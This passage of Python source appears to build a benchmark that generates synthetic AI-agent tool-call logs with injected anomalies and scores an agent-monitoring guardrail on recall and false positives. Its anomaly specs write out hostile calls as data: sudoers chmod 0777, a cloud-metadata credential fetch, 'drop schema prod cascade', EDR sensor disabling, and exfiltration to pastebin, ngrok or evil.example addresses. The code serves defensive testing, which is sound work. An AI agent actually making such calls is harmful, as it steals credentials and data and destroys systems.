CHAT_TOOLS = ["web", "calc", "code", "weather", "memory", "files", "image", "translate", "maps",
              "news", "email", "calendar", "music", "shopping"]


def _chat_tool_call(r: random.Random) -> Step:
    # Candidate payloads in a list are all built (with their draws) before one is chosen.
    t = r.choice(CHAT_TOOLS)
    if t == "web":
        p: Payload = {"query": _words(r, 1, 8)}
        optional: tuple[tuple[str, JsonValue], ...] = (
            ("num_results", r.randint(3, 10)), ("site", "wikipedia.org"), ("lang", "en"),
            ("recency_days", r.randint(1, 30)))
        for k, v in optional:
            if r.random() < 0.3:
                p[k] = v
        act = r.choice(["web.search", "web.search", "web.open_url"])
        return _s("web", act, p if r.random() < 0.7 else {"url": f"https://{_hexid(r, 5)}.com"})
    if t == "calc":
        p = {"expression": f"{r.randint(1, 99)}*{r.randint(1, 99)}"}
        if r.random() < 0.3:
            p["precision"] = 4
        return _s("calc", "calc.evaluate", p)
    if t == "code":
        p = {"language": r.choice(["python", "js"]), "code": "print(1)"}
        if r.random() < 0.3:
            p["files"] = [{"name": "a.csv", "size": r.randint(1, 9999)}
                          for _ in range(r.randint(1, 3))]
        if r.random() < 0.2:
            p["timeout"] = 30
        return _s("code", "code.run", p)
    if t == "weather":
        act = r.choice(["weather.current", "weather.forecast"])
        return _s("weather", act, r.choice([{"city": "Paris"}, {"lat": 48.8, "lon": 2.3},
                                            {"city": "Rome", "days": 3}]))
    if t == "memory":
        if r.random() < 0.5:
            return _s("memory", "memory.read", {
                "keys": [_hexid(r, 4) for _ in range(r.randint(1, 3))]})
        key = _hexid(r, 4)
        values: list[JsonValue] = [_words(r, 1, 5), {"note": "x", "tags": ["a"]}, r.randint(1, 9)]
        return _s("memory", "memory.write", {"key": key, "value": r.choice(values)})
    if t == "files":
        act = r.choice(["files.read", "files.list", "files.write"])
        return _s("files", act, r.choice([{"path": "/data/x.txt"},
                                          {"path": "/data", "recursive": True},
                                          {"path": "/tmp/y.md", "content": "hello"}]))
    if t == "image":
        p = {"prompt": _words(r, 3, 12), "size": r.choice(["512x512", "1024x1024"])}
        if r.random() < 0.4:
            p["style"] = "vivid"
        return _s("image", "image.generate", p)
    if t == "translate":
        p = {"text": _words(r, 2, 20), "target": r.choice(["fr", "de", "ja"])}
        if r.random() < 0.5:
            p["source"] = "en"
        return _s("translate", "translate.text", p)
    if t == "maps":
        act = r.choice(["maps.directions", "maps.places"])
        return _s("maps", act, r.choice([
            {"origin": "A", "destination": "B", "mode": "walking"},
            {"query": "coffee", "near": {"lat": 1.0, "lng": 2.0}}, {"query": "museum"}]))
    if t == "news":
        return _s("news", "news.headlines", r.choice([{"topic": "tech"},
                                                      {"country": "us", "page_size": 10}, {}]))
    if t == "email":
        act = r.choice(["email.search", "email.draft"])
        return _s("email", act, r.choice([{"query": "from:boss"},
                                          {"to": ["a@b.example"], "subject": "hi", "body": "x"}]))
    if t == "calendar":
        act = r.choice(["calendar.list", "calendar.create"])
        cands: list[Payload] = [{"date": _day(r)},
                                {"title": "x", "start": _iso(r), "duration_min": 30}]
        return _s("calendar", act, r.choice(cands))
    if t == "music":
        cands = [{"track": "x"}, {"playlist_id": r.randint(1, 999)},
                 {"artist": "y", "shuffle": True}]
        return _s("music", "music.play", r.choice(cands))
    act = r.choice(["shopping.search", "shopping.compare"])
    cands = [{"query": "shoes", "max_price": 80}, {"query": "tv"},
             {"product_ids": [r.randint(1, 10**6) for _ in range(r.randint(2, 4))]}]
    return _s("shopping", act, r.choice(cands))


def _chat(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    st = [_chat_tool_call(r)
          for _ in range(r.choices([1, 2, 3, 4, 6, 9, 14], [15, 20, 20, 15, 15, 10, 5])[0])]
    for s in st:
        s.cost = round(r.uniform(0.001, 0.02), 4)
    if len(st) >= 2:
        st[0].role = "read"
    return st, tags


# --------------------------------------------------------------------------- archetype specs

Call: TypeAlias = tuple[str, str, Payload]


@dataclass(frozen=True, slots=True)
class ArchSpec:
    """An archetype: its run generator, whether its runs send ``end_of_run``, and what its
    anomalies use: a privileged call, a destructive action (and the action it is shaped like),
    the call whose values ``destructive_value_only`` changes, an exfiltration service, the
    agent's outbound send and the extra keys of ``extra_fields``."""

    run: Callable[[AgentState], RunSteps]
    end: bool
    priv: Call
    destr: tuple[str, str, str]
    value_only: tuple[str, str] | None
    exfil_svc: str
    send: tuple[str, str]
    extra_keys: list[str]


ARCH: dict[str, ArchSpec] = {
    "claims": ArchSpec(
        _claims, True, ("payments", "payments.override_limit", {
            "claim_id": "CLM-000001", "new_limit": 250000, "justification": "urgent"}),
        ("claims", "claims.delete", "claims.get"), ("payments", "payments.create_payout"),
        "pastebin", ("notify", "notify.email"), ["bcc_party_ids", "export_full_file"]),
    "etl": ArchSpec(
        _etl, True, ("warehouse", "warehouse.grant_role",
                     {"role": "ACCOUNTADMIN", "to_user": "svc_etl"}),
        ("warehouse", "warehouse.drop_table", "warehouse.swap_partition"),
        ("warehouse", "warehouse.query"), "transfer_sh", ("slack", "slack.post_message"),
        ["unload_to", "grant_public"]),
    "k8s": ArchSpec(
        _k8s, False, ("k8s", "k8s.exec", {"namespace": "payments", "pod": "payments-api-0",
                                          "command": ["sh", "-c", "env"]}),
        ("k8s", "k8s.delete_namespace", "k8s.get"), ("k8s", "k8s.patch"), "ngrok",
        ("github", "github.create_issue"), ["dry_run_override", "force"]),
    "crm": ArchSpec(
        _crm, True, ("salesforce", "salesforce.export_all", {"object": "Contact", "format": "csv"}),
        ("salesforce", "salesforce.delete_lead", "salesforce.get_lead"),
        ("salesforce", "salesforce.update_lead"), "webhook_site", ("gmail", "gmail.create_draft"),
        ["bcc", "attach_export"]),
    "research": ArchSpec(
        _research, True, ("notes", "notes.share_public", {
            "page_id": "00000000-0000-4000-a000-000000000000", "allow_edit": True}),
        ("notes", "notes.delete_page", "notes.append"), ("browser", "browser.fetch"), "pastebin",
        ("notes", "notes.append"), ["webhook", "share_with"]),
    "calendar": ArchSpec(
        _calendar, True, ("gcal", "gcal.acl_insert", {
            "calendar_id": "primary", "role": "owner",
            "scope": {"type": "user", "value": "x@evil.example"}}),
        ("gcal", "gcal.calendars_clear", "gcal.freebusy"), ("gcal", "gcal.events_insert"),
        "requestbin", ("gmail", "gmail.send"), ["guestsCanModify", "forward_to"]),
    "payments": ArchSpec(
        _payments, True, ("bank", "bank.create_wire", {
            "account_id": 1, "amount": 49000, "beneficiary_iban": "GB33BUKB20201555555555"}),
        ("ledger", "ledger.delete_entries", "ledger.get_entries"), ("ledger", "ledger.post_match"),
        "transfer_sh", ("email", "email.send"), ["cc_external", "include_raw"]),
    "siem": ArchSpec(
        _siem, False, ("edr", "edr.disable_sensor", {"host_id": "h-00000000",
                                                     "reason": "maintenance"}),
        ("splunk", "splunk.delete_index", "splunk.search"), ("splunk", "splunk.update_notable"),
        "ngrok", ("slack", "slack.post_message"), ["suppress_for_days", "export"]),
    "chat": ArchSpec(
        _chat, True, ("files", "files.chmod", {"path": "/etc/sudoers", "mode": "0777"}),
        ("files", "files.delete_all", "files.read"), None, "pastebin", ("email", "email.draft"),
        ["system_prompt", "exfil"]),
}

#: (archetype, number of agents), in the order agents are made.
AGENTS: list[tuple[str, int]] = [
    ("claims", 3), ("etl", 2), ("k8s", 2), ("crm", 2), ("research", 2), ("calendar", 2),
    ("payments", 3), ("siem", 2), ("chat", 2)]

#: The anomaly kinds (a kind that does not fit the run is redrawn, up to 20 times).
KINDS: tuple[str, ...] = (
    "exfil_unknown_service", "priv_unknown_action", "extra_fields", "skip_mandatory",
    "swap_within_service", "swap_across_services", "destructive_new_action",
    "destructive_value_only", "short_loop", "long_loop", "read_then_send", "dup_payment",
    "arg_type_change", "wrong_position_first")


# --------------------------------------------------------------------------- anomalies

@dataclass(slots=True)
class Params:
    """An anomaly's content, drawn apart from the run it goes into (so that a recurring attacker
    repeats it): only the fields of its kind are set."""

    svc: str = ""
    act: str = ""
    pl: Payload = field(default_factory=dict)
    prio: str | None = None
    keys: list[str] = field(default_factory=list)
    vals: Payload = field(default_factory=dict)
    send_pl: Payload = field(default_factory=dict)
    later: bool = False


def _mark(s: Step) -> Step:
    """A labelled copy of a step."""
    return replace(s, payload=copy.deepcopy(s.payload), label=True)


def _role(s: Step) -> str:
    return s.role or ""


def _within_pair(steps: Sequence[Step]) -> list[tuple[int, int]] | None:
    by: dict[str, list[int]] = {}
    for i, s in enumerate(steps):
        by.setdefault(s.service, []).append(i)
    cands = []
    for idx in by.values():
        for a, b in pairwise(idx):
            if steps[a].action != steps[b].action:
                cands.append((a, b))
    return cands or None


def _applicable(kind: str, steps: Sequence[Step], spec: ArchSpec) -> bool:
    if kind == "skip_mandatory":
        return any(_role(s).startswith("mandatory") for s in steps[:-1])
    if kind == "swap_within_service":
        return _within_pair(steps) is not None
    if kind == "swap_across_services":
        return any(steps[i].service != steps[i + 1].service for i in range(len(steps) - 1))
    if kind == "dup_payment":
        return any(s.role == "payment" for s in steps)
    if kind == "destructive_value_only":
        return spec.value_only is not None and any(
            (s.service, s.action) == spec.value_only for s in steps)
    if kind == "read_then_send":
        return (any(_role(s).endswith("read_sensitive") for s in steps)
                or any(s.role == "read" for s in steps))
    if kind == "destructive_new_action":
        return any(s.action == spec.destr[2] for s in steps)
    if kind == "wrong_position_first":
        return len(steps) >= 3
    if kind == "arg_type_change":  # (gen.py: len(steps) >= 1, and raised on empty payloads)
        return any(s.payload for s in steps)
    return len(steps) >= 1


def _type_change(pl: Payload, r: random.Random) -> tuple[Payload, str]:
    """Change one scalar's type: str -> object, int -> str, etc. Returns (new payload, key)."""
    pl = copy.deepcopy(pl)
    keys = [k for k, v in pl.items()
            if isinstance(v, (str, int, float)) and not isinstance(v, bool)]
    if not keys:
        k = r.choice(list(pl)) if pl else "id"
        pl[k] = {"value": pl.get(k)}
        return pl, k
    k = r.choice(keys)
    v = pl[k]
    pl[k] = {"id": v, "type": "ref"} if isinstance(v, str) else str(v)
    return pl, k


def _value_only(pl: Payload, act: str) -> None:
    """Harmful values in a normal call, its shape kept (or nearly)."""
    if act == "payments.create_payout":
        pl["amount"] = 98000.0
    elif act == "warehouse.query":
        pl["sql"] = "drop schema prod cascade"
    elif act == "k8s.patch":
        pl["patch"] = ({"spec": {"replicas": 0}} if "spec" in _map(pl["patch"])
                       else {"metadata": {"annotations": {"ops.bot/last-check": "x"}}})
        pl["namespace"] = "payments"
    elif act == "salesforce.update_lead":
        pl["fields"] = ({"Status": "Closed - Lost"} if "Rating" not in _map(pl["fields"])
                        else {"Status": "Closed - Lost", "Rating": "Cold"})
    elif act == "browser.fetch":
        pl["url"] = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    elif act == "gcal.events_insert":
        pl["attendees"] = [{"email": f"all-staff-{k}@corp.example"} for k in range(40)]
    elif act == "ledger.post_match":
        pl["ledger_entry_ids"] = [f"je-{k}" for k in range(10000, 10003)]
        pl["confidence"] = 0.01
    elif act == "splunk.update_notable":
        pl["status"] = 5
        pl["comment"] = "benign: closing all"
        pl["event_ids"] = list(_seq(pl["event_ids"])) * 30


def _inject(kind: str, steps: Sequence[Step], spec: ArchSpec, r: random.Random,
            params: Params) -> list[Step]:
    """A copy of the run's steps with the anomaly in, its injected or moved steps labelled."""
    st = [replace(s, payload=copy.deepcopy(s.payload)) for s in steps]
    n = len(st)
    if kind == "exfil_unknown_service":
        pos = r.randint(1, n)
        st.insert(pos, _mark(_s(params.svc, params.act, params.pl)))
    elif kind == "priv_unknown_action":
        svc, act, pl = spec.priv
        st.insert(r.randint(1, n), _mark(_s(svc, act, copy.deepcopy(pl), prio=params.prio)))
    elif kind == "extra_fields":
        cands = [i for i, s in enumerate(st) if s.action == params.act] or list(range(n))
        i = r.choice(cands)
        s = _mark(st[i])
        for k in params.keys:
            s.payload[k] = params.vals[k]
        st[i] = s
    elif kind == "skip_mandatory":
        cands = [i for i, s in enumerate(st[:-1]) if _role(s).startswith("mandatory")]
        i = r.choice(cands)
        del st[i]
        st[i] = _mark(st[i])
    elif kind == "swap_within_service":
        a, b = r.choice(_within_pair(st) or [])
        st[a], st[b] = _mark(st[b]), _mark(st[a])
    elif kind == "swap_across_services":
        c = [i for i in range(n - 1) if st[i].service != st[i + 1].service]
        i = r.choice(c)
        st[i], st[i + 1] = _mark(st[i + 1]), _mark(st[i])
    elif kind == "destructive_new_action":
        _, act, like = spec.destr
        i = r.choice([i for i, s in enumerate(st) if s.action == like])
        d = _mark(st[i])
        d.action = act
        st.insert(i + 1, d)
    elif kind == "destructive_value_only":
        if spec.value_only is None:
            raise ValueError(f"{kind} does not apply to this archetype")
        svc, act = spec.value_only
        i = r.choice([i for i, s in enumerate(st) if (s.service, s.action) == (svc, act)])
        s = _mark(st[i])
        _value_only(s.payload, act)
        st[i] = s
    elif kind in ("short_loop", "long_loop"):
        single = [i for i in range(n)
                  if (i == 0 or st[i - 1].action != st[i].action)
                  and (i == n - 1 or st[i + 1].action != st[i].action)]
        i = r.choice(single or list(range(n)))
        reps = r.randint(2, 3) if kind == "short_loop" else r.randint(15, 40)
        for _ in range(reps):
            d = _mark(st[i])
            d.gap = r.uniform(0.5, 3)
            st.insert(i + 1, d)
    elif kind == "read_then_send":
        cands = ([i for i, s in enumerate(st) if _role(s).endswith("read_sensitive")]
                 or [i for i, s in enumerate(st) if s.role == "read"])
        i = r.choice(cands)
        svc, act = spec.send
        st.insert(i + 1, _mark(_s(svc, act, copy.deepcopy(params.send_pl))))
    elif kind == "dup_payment":
        i = r.choice([i for i, s in enumerate(st) if s.role == "payment"])
        d = _mark(st[i])
        if params.later and i + 1 < n:
            st.insert(r.randint(i + 2, n), d)
        else:
            st.insert(i + 1, d)
    elif kind == "arg_type_change":
        i = r.choice([i for i, s in enumerate(st) if s.payload])
        s = _mark(st[i])
        s.payload, _ = _type_change(s.payload, r)
        st[i] = s
    elif kind == "wrong_position_first":
        st.insert(0, _mark(st[-1]))
    else:
        raise ValueError(kind)
    return st


def _draw_params(kind: str, spec: ArchSpec, r: random.Random,
                 sample_steps: Sequence[Step]) -> Params:
    p = Params()
    if kind == "exfil_unknown_service":
        p.svc = spec.exfil_svc
        p.act = r.choice([f"{spec.exfil_svc}.upload", f"{spec.exfil_svc}.post"])
        p.pl = ({"content": "base64:" + "QUJD" * 8, "expires": "1d"} if r.random() < 0.5
                else {"url": f"https://{_hexid(r, 8)}.example/hook", "body": {"rows": 1200}})
    elif kind == "priv_unknown_action":
        p.prio = r.choice([None, "high"])
    elif kind == "extra_fields":
        s = r.choice(sample_steps)
        p.act = s.action
        p.keys = r.sample(spec.extra_keys, r.randint(1, 2))
        p.vals = {k: r.choice([True, "attacker@evil.example", {"to": "https://evil.example"}])
                  for k in p.keys}
    elif kind == "read_then_send":
        _, act = spec.send
        same = [s for s in sample_steps if s.action == act]
        if same and r.random() < 0.5:  # subtle: same shape as the agent's normal send
            p.send_pl = copy.deepcopy(r.choice(same).payload)
        else:
            p.send_pl = {"to": ["drop@evil.example"], "subject": "export", "body": "data dump",
                         "attachments": [{"filename": "dump.csv", "mime_type": "text/csv"}]}
    elif kind == "dup_payment":
        p.later = r.random() < 0.5
    return p


# --------------------------------------------------------------------------- generation

def generate(seed: int = 2025, runs: int = RUNS, warmup: int = WARMUP, *,
             anomaly_rate: float = ANOM_RATE, project: str = PROJECT,
             ) -> tuple[list[Event], list[RunMeta]]:
    """The events (sorted by timestamp, as replayed) and the runs (agent by agent).

    ``runs`` is the mean number of runs per agent (each agent gets ``runs + randint(-60, 90)``);
    anomalies only in runs with index ``>= warmup``. Deterministic for given arguments, and the
    same traffic the original ``gen.py`` writes for them (whose warm-up was 300).
    """
    agents = []
    for arch, k in AGENTS:
        for j in range(k):
            name = f"{arch}-{j + 1}"
            ar = random.Random(f"{seed}/{name}")
            has_drift = arch != "chat" and ar.random() < 0.6
            drift_at = ar.randint(420, 650) if has_drift else None
            agents.append(AgentState(name, arch, ar, drift_at, ar.choice([1.0, 1.0, 0.5])))
    keyed: list[tuple[float, int, Event]] = []
    metas: list[RunMeta] = []
    seq = 0
    for a in agents:
        spec = ARCH[a.arch]
        r = a.rng
        nruns = runs + r.randint(-60, 90)
        # per-agent recurring attacker kinds with fixed content
        sample_steps = [
            s for i in range(5)
            for s in spec.run(AgentState(a.name, a.arch,
                                         random.Random(f"{seed}/{a.name}/sample{i}"), None, 0))[0]]
        fav = r.sample(KINDS, 2)
        fav_params = {k: _draw_params(k, spec, random.Random(f"{seed}/{a.name}/fav/{k}"),
                                      sample_steps) for k in fav}
        occ: dict[str, int] = {}
        t = T0 + r.uniform(0, 600)
        mean_gap = 86400 * 7 / nruns  # a week of traffic
        for idx in range(nruns):
            a.idx = idx
            steps, tags = spec.run(a)
            kind: str | None = None
            recurring = False
            if idx >= warmup and r.random() < anomaly_rate:
                if r.random() < 0.5:
                    kind, recurring = r.choice(fav), True
                    params = fav_params[kind]
                else:
                    kind = r.choice(KINDS)
                    params = _draw_params(kind, spec, r, sample_steps)
                tries = 0
                while not _applicable(kind, steps, spec) and tries < 20:
                    kind, recurring = r.choice(KINDS), False
                    params = _draw_params(kind, spec, r, sample_steps)
                    tries += 1
                steps = _inject(kind, steps, spec, r, params)
            # timing: overlapping runs sometimes
            if r.random() < 0.1:
                t += r.uniform(5, 60)
            else:
                t += r.expovariate(1 / mean_gap)
            ts = t
            labelled: list[str] = []
            run_id = f"{a.name}-r{idx:04d}-{_hexid(r, 6)}"
            for i, s in enumerate(steps):
                gap = r.uniform(0.4, 8.0)  # (drawn even when the step fixes its gap)
                ts += s.gap if s.gap is not None else gap
                ev: Event = {
                    "event_id": f"{run_id}-{i:03d}", "agent_id": a.name, "run_id": run_id,
                    "service": s.service, "action": s.action, "payload": s.payload,
                    "ts": round(ts, 3), "project_id": project, "label": s.label,
                }
                if s.priority:
                    ev["priority"] = s.priority
                if s.cost is not None:
                    ev["cost"] = s.cost
                if spec.end and i == len(steps) - 1:
                    ev["end_of_run"] = True
                if s.label:
                    labelled.append(ev["event_id"])
                seq += 1
                keyed.append((ev["ts"], seq, ev))
            if kind:
                occ[kind] = occ.get(kind, 0) + 1
            metas.append({
                "run_id": run_id, "agent": a.name, "arch": a.arch, "idx": idx,
                "tags": sorted(tags), "kind": kind, "recurring": recurring,
                "occurrence": occ.get(kind) if kind else None, "labelled": labelled,
                "n_events": len(steps), "drift_at": a.drift_at, "start": round(t, 3)})
    keyed.sort(key=lambda x: (x[0], x[1]))
    return [ev for _, _, ev in keyed], metas


def event_line(ev: Event) -> str:
    """One line of ``events.jsonl`` (without the newline), as ``gen.py`` writes it."""
    return json.dumps(ev, separators=(",", ":"))


def run_line(run: RunMeta) -> str:
    """One line of ``runs.jsonl`` (without the newline)."""
    return json.dumps(run)




# --------------------------------------------------------------------------- analysis

class Row(TypedDict):
    """One line of a table: ``anom`` anomalous runs and the shares some event of which was not
    allowed (``recall_any``), paused or rejected (``recall_enforced``), or whose labelled event
    itself was not allowed (``recall_hit``); ``normal`` normal runs and the same for them
    (``fpr_any``, ``fpr_enforced``). None where the group is empty."""

    anom: int
    recall_any: float | None
    recall_enforced: float | None
    recall_hit: float | None
    normal: int
    fpr_any: float | None
    fpr_enforced: float | None


class Figures(TypedDict):
    """What ``--json`` writes: the rows of the original analysis' tables (key for key: the row
    names it printed), grouped by table. ``overall`` holds ``ALL`` and ``ALL except chat``;
    ``variant`` the normal variants and the two aggregates the original added to them."""

    warmup: int
    invalid_lines: int
    overall: dict[str, Row]
    arch: dict[str, Row]
    agent: dict[str, Row]
    variant: dict[str, Row]
    kind: dict[str, Row]
    recurring: dict[str, Row]


EvVerdict: TypeAlias = tuple[Mapping[str, Any], Mapping[str, Any]]


@dataclass(slots=True)
class _Run:
    """A run after warm-up, with its events and their verdicts."""

    m: RunMeta
    evs: list[EvVerdict]
    any: bool
    enf: bool
    hit: bool
    causes: Counter[str]
    variant: str


def cause_of(v: Mapping[str, Any]) -> list[str]:
    """Short cause labels for one non-allow verdict (``?`` if none is given)."""
    out = []
    for x in v["reasons"]:
        if x["action"] == "allow":
            continue
        d = x["detail"]
        if x["source"] != "markov":
            out.append(f"guardrail:{d.get('rule', x['source'])}")
            continue
        if "loop_note" in d:
            c = "markov:loop(repeat>learned)"
        elif "note" in d and "new to this agent" in d["note"]:
            c = "markov:new_service_chain"
        elif d.get("new_node") and "shape never seen" in (d.get("backoff") or ""):
            c = "markov:new_shape_for_action(escape)"
        elif d.get("new_node"):
            c = "markov:new_node"
        elif d.get("p", 1) == 0 or d.get("seen", 1) == 0:
            c = "markov:unseen_transition"
        else:
            c = "markov:rare_transition"
        if d.get("unlearnable"):
            c += "[unlearnable]"
        out.append(c)
    return out or ["?"]


def _pct(a: int, b: int) -> str:
    return f"{100 * a / b:5.1f}%" if b else "   - "


def _variant(m: RunMeta) -> str:
    tags = set(m["tags"])
    if "rare" in tags:
        return "rare_branch"
    if "type_jitter" in tags:
        return "type_jitter"
    if "drift" in tags:
        drift_at = m["drift_at"]
        if drift_at is not None and m["idx"] < drift_at + 50:
            return "drift(first 50 runs after onset)"
        return "drift(later)"
    if "loop" in tags:
        return "loop(pagination/poll/retry)"
    return "plain"


_HEADER = ("| {:<34} | anom  | rec.any | rec.enf | rec.hit | normal | FPR.any | FPR.enf |"
           .format("slice"))
_SEP = "|" + "-" * 36 + "|-------|--------|--------|--------|--------|--------|--------|"


class _Tables:
    """The markdown lines and the rows they print."""

    def __init__(self, out: list[str]) -> None:
        self.out = out

    def head(self, title: str) -> None:
        self.out.extend([f"\n## {title}\n", _HEADER, _SEP])

    def line(self, into: dict[str, Row], name: str, a: Sequence[_Run], n: Sequence[_Run]) -> None:
        a_any = sum(r.any for r in a)
        a_enf = sum(r.enf for r in a)
        a_hit = sum(r.hit for r in a)
        n_any = sum(r.any for r in n)
        n_enf = sum(r.enf for r in n)
        into[name] = {
            "anom": len(a), "recall_any": a_any / len(a) if a else None,
            "recall_enforced": a_enf / len(a) if a else None,
            "recall_hit": a_hit / len(a) if a else None, "normal": len(n),
            "fpr_any": n_any / len(n) if n else None, "fpr_enforced": n_enf / len(n) if n else None}
        self.out.append(
            f"| {name:<34} | {len(a):5d} | {_pct(a_any, len(a))} | {_pct(a_enf, len(a))} | "
            f"{_pct(a_hit, len(a))} | {len(n):6d} | {_pct(n_any, len(n))} | "
            f"{_pct(n_enf, len(n))} |")


def analyse_and_report(events: Iterable[Mapping[str, Any]], verdicts: Iterable[Mapping[str, Any]],
                       runs: Iterable[RunMeta], warmup: int = WARMUP, examples: int = 4,
                       ) -> tuple[Figures, str]:
    """The figures and the markdown report of the original analysis, from the events and their
    verdicts (same order, one verdict line per event line, as ``ratchet replay`` writes them; a
    verdict line with an ``error`` and no ``event_id`` skips its event) and the runs."""
    meta = {m["run_id"]: m for m in runs}
    ev_by_run: defaultdict[str, list[EvVerdict]] = defaultdict(list)
    n_err = 0
    for e, v in zip(events, verdicts, strict=True):
        if "error" in v and "event_id" not in v:
            n_err += 1
            continue
        if e["event_id"] != v["event_id"]:
            raise ValueError(f"event {e['event_id']} has the verdict of {v['event_id']}: "
                             "events and verdicts are not in the same order")
        ev_by_run[e["run_id"]].append((e, v))
    out = [f"# invalid/error lines: {n_err}"]
    # chain modes: first run index at which a chain is seen in a mode; its last mode
    first_mode: dict[tuple[str, str], int] = {}
    for rid, evs in ev_by_run.items():
        idx = meta[rid]["idx"]
        for _, v in evs:
            key = (v["chain"], v["mode"])
            if key not in first_mode or idx < first_mode[key]:
                first_mode[key] = idx
    final_mode: dict[str, str] = {}
    for rid in sorted(ev_by_run, key=lambda r: meta[r]["start"]):
        for _, v in ev_by_run[rid]:
            final_mode[v["chain"]] = v["mode"]

    rows: list[_Run] = []
    for rid, evs in ev_by_run.items():
        m = meta[rid]
        if m["idx"] < warmup:
            continue
        causes: Counter[str] = Counter()
        for _, v in evs:
            if v["action"] != "allow":
                for c in cause_of(v):
                    causes[c] += 1
        rows.append(_Run(
            m=m, evs=evs, any=any(v["action"] != "allow" for _, v in evs),
            enf=any(v["action"] in ("pause", "reject") for _, v in evs),
            hit=any(e["label"] and v["action"] != "allow" for e, v in evs),
            causes=causes, variant=_variant(m)))

    anom = [r for r in rows if r.m["kind"]]
    norm = [r for r in rows if not r.m["kind"]]
    figures: Figures = {"warmup": warmup, "invalid_lines": n_err, "overall": {}, "arch": {},
                        "agent": {}, "variant": {}, "kind": {}, "recurring": {}}
    t = _Tables(out)
    t.head("Run level after warm-up: overall and per archetype")
    t.line(figures["overall"], "ALL", anom, norm)
    t.line(figures["overall"], "ALL except chat", [r for r in anom if r.m["arch"] != "chat"],
           [r for r in norm if r.m["arch"] != "chat"])
    for arch in sorted({r.m["arch"] for r in rows}):
        t.line(figures["arch"], f"arch={arch}", [r for r in anom if r.m["arch"] == arch],
               [r for r in norm if r.m["arch"] == arch])
    t.head("per agent")
    drift_at: dict[str, int | None] = {}
    for r in rows:
        drift_at.setdefault(r.m["agent"], r.m["drift_at"])
    for ag in sorted(drift_at):
        t.line(figures["agent"], f"agent={ag} drift@{drift_at[ag]}",
               [r for r in anom if r.m["agent"] == ag], [r for r in norm if r.m["agent"] == ag])

    t.head("per normal variant (FPR)")
    for var in sorted({r.variant for r in norm}):
        t.line(figures["variant"], var, [], [r for r in norm if r.variant == var])
    t.line(figures["variant"], "normal runs of agents w/o drift", [],
           [r for r in norm if r.m["drift_at"] is None])
    t.line(figures["variant"], "normal, no drift tag, no rare, no jitter", [],
           [r for r in norm if r.variant in ("plain", "loop(pagination/poll/retry)")])

    t.head("per anomaly kind (recall)")
    for k in sorted({r.m["kind"] or "" for r in anom}):
        t.line(figures["kind"], k, [r for r in anom if r.m["kind"] == k], [])
    t.head("recurring (attacker repeats identical content): 1st occurrence vs repeats")
    rec = [r for r in anom if r.m["recurring"]]

    def occurrence(r: _Run) -> int:
        return r.m["occurrence"] or 0

    t.line(figures["recurring"], "recurring: occurrence 1",
           [r for r in rec if occurrence(r) == 1], [])
    t.line(figures["recurring"], "recurring: occurrence 2-3",
           [r for r in rec if 2 <= occurrence(r) <= 3], [])
    t.line(figures["recurring"], "recurring: occurrence >=4",
           [r for r in rec if occurrence(r) >= 4], [])
    t.line(figures["recurring"], "one-off (non-recurring)",
           [r for r in anom if not r.m["recurring"]], [])
    for k in sorted({r.m["kind"] or "" for r in rec}):
        sub = [r for r in rec if r.m["kind"] == k]
        t.line(figures["recurring"], f"  rec {k} 1st", [r for r in sub if occurrence(r) == 1], [])
        t.line(figures["recurring"], f"  rec {k} later",
               [r for r in sub if occurrence(r) > 1], [])

    _false_positives(out, rows, norm, examples)
    _misses(out, anom, examples)

    out.append("\n## chain modes: first agent-run index at which each chain was seen in each "
               "mode; final mode\n")
    out.append("| chain | soft_lock at | locked at | final |")
    out.append("|---|---|---|---|")
    for c in sorted({c for c, _ in first_mode}):
        out.append(f"| {c} | {first_mode.get((c, 'soft_lock'), '-')} | "
                   f"{first_mode.get((c, 'locked'), '-')} | {final_mode[c]} |")
    return figures, "\n".join(out) + "\n"


def _false_positives(out: list[str], rows: Sequence[_Run], norm: Sequence[_Run],
                     examples: int) -> None:
    """Causes of the false positives, by (agent, call, cause), and examples per cause."""
    fp = [r for r in norm if r.any]
    out.append(f"\n## False-positive causes ({len(fp)} normal runs with a non-allow verdict of "
               f"{len(norm)})\n")
    cause_runs: Counter[str] = Counter()
    first_cause: Counter[str] = Counter()
    for r in fp:
        for c in r.causes:
            cause_runs[c] += 1
        _, v = next((e, v) for e, v in r.evs if v["action"] != "allow")
        first_cause[cause_of(v)[0]] += 1
    out.append("| cause | runs with it | runs where it is the first non-allow |")
    out.append("|---|---|---|")
    for c, n in cause_runs.most_common():
        out.append(f"| {c} | {n} ({_pct(n, len(norm)).strip()} of normal) | {first_cause[c]} |")
    aac: Counter[tuple[str, str, str]] = Counter()
    aac_last: Counter[tuple[str, str, str]] = Counter()
    agent_last_idx: defaultdict[str, int] = defaultdict(int)
    for r in rows:
        agent_last_idx[r.m["agent"]] = max(agent_last_idx[r.m["agent"]], r.m["idx"])
    for r in fp:
        seen = set()
        for e, v in r.evs:
            if v["action"] != "allow":
                for c in cause_of(v):
                    k = (r.m["agent"], str(e["action"]), c)
                    if k in seen:
                        continue
                    seen.add(k)
                    aac[k] += 1
                    if r.m["idx"] >= agent_last_idx[r.m["agent"]] - 100:
                        aac_last[k] += 1
    out.append("\n### top (agent, action, cause) by false runs; 'last100' = false runs among the "
               "agent's last 100 runs (still firing at the end?)\n")
    out.append("| agent | action | cause | false runs | in last 100 runs |")
    out.append("|---|---|---|---|---|")
    for (ag, act, c), n in aac.most_common(40):
        out.append(f"| {ag} | {act} | {c} | {n} | {aac_last[(ag, act, c)]} |")

    out.append("\n### examples per cause\n")
    for c, _ in cause_runs.most_common(8):
        out.append(f"\n#### {c}\n")
        shown = 0
        seen_keys = set()
        for r in fp:
            if c not in r.causes:
                continue
            bad = [(e, v) for e, v in r.evs if v["action"] != "allow" and c in cause_of(v)]
            key = (r.m["agent"], bad[0][0]["action"])
            if key in seen_keys:
                continue
            seen_keys.add(key)
            m = r.m
            out.append(f"- run `{m['run_id']}` (agent {m['agent']}, run #{m['idx']}, tags "
                       f"{m['tags']}, variant {r.variant}):")
            out.append("  sequence: " + " → ".join(
                f"{e['action']}{'*' if v['action'] != 'allow' else ''}" for e, v in r.evs))
            e, v = bad[0]
            rs = [x for x in v["reasons"] if x["action"] != "allow"]
            out.append(f"  flagged event: `{e['action']}` payload "
                       f"`{json.dumps(e['payload'])[:220]}`")
            out.append(f"  verdict: action={v['action']} mode={v['mode']} score={v['score']} "
                       f"thr={v['threshold']} edge={json.dumps(v['edge'])}")
            out.append(f"  reason: `{json.dumps(rs)[:700]}`")
            shown += 1
            if shown >= examples:
                break


